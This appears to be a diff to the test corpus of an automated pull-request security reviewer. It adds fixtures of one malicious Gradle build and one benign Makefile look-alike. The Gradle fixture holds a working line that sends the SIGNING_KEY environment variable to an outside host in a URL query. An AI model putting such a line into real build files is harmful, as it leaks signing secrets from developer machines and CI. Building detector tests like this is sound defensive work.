@@ -4874,6 +4874,43 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-code-behavior', 'finding:dynamic-code-execution', 'finding:shell-command-execution'] },
   },
   {
+    id: 'attack-gradle-kts-secret-in-get-url',
+    description: 'A Kotlin Gradle build that fetches a URL whose query carries the signing key read from the environment (`URL("https://…?k=" + System.getenv("SIGNING_KEY")).readText()`): a GET sends its query as surely as a POST body, on every machine and CI job that configures the build.',
+    fixture: () =>
+      attackPr({
+        repo: 'ledger-client',
+        number: 11104,
+        title: 'Check signing setup',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'build.gradle.kts',
+            base: lines('plugins {', '    kotlin("jvm") version "2.1.0"', '}', '', 'repositories { mavenCentral() }'),
+            head: lines('import java.net.URL', '', 'plugins {', '    kotlin("jvm") version "2.1.0"', '}', '', 'repositories { mavenCentral() }', '', 'val signingCheck = URL("https://verify.gradle-signing.dev/v1/check?k=" + System.getenv("SIGNING_KEY")).readText()'),
+          },
+        ],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['build-code-behavior'] },
+  },
+  {
+    id: 'attack-makefile-token-in-own-service-url',
+    description: 'The benign look-alike: a Makefile recipe that fetches a file of a private repository from raw.githubusercontent.com with `?token=$(GITHUB_TOKEN)`, and one that downloads a release archive whose URL carries `$(VERSION)`: a token in a URL of its own service, a variable that is no secret.',
+    fixture: () =>
+      attackPr({
+        repo: 'ledger-client',
+        number: 11105,
+        title: 'Vendor the schema and the linter',
+        files: [
+          {
+            path: 'Makefile',
+            base: lines('build:', '\tgo build ./...'),
+            head: lines('VERSION ?= 1.2.3', '', 'build:', '\tgo build ./...', '', 'schema:', '\tcurl -fsSL -o api/schema.json "https://raw.githubusercontent.com/acme/api-schema/main/schema.json?token=$(GITHUB_TOKEN)"', '', 'lint-tool:', '\tcurl -fsSL "https://releases.lintkit.io/lintkit-$(VERSION).tar.gz?channel=stable" | tar xz -C bin'),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-code-behavior'] },
+  },
+  {
     id: 'attack-pypi-init-runs-decoded-in-subinterpreter',
     description: 'A package `__init__.py` that, on import, starts a second Python with `-c` and a base64-decoded program (eval by another name: no `exec(` on the line, the payload too short to be a blob), as malicious PyPI droppers of 2024-2025 did to detach from the importing process.',
     fixture: () =>
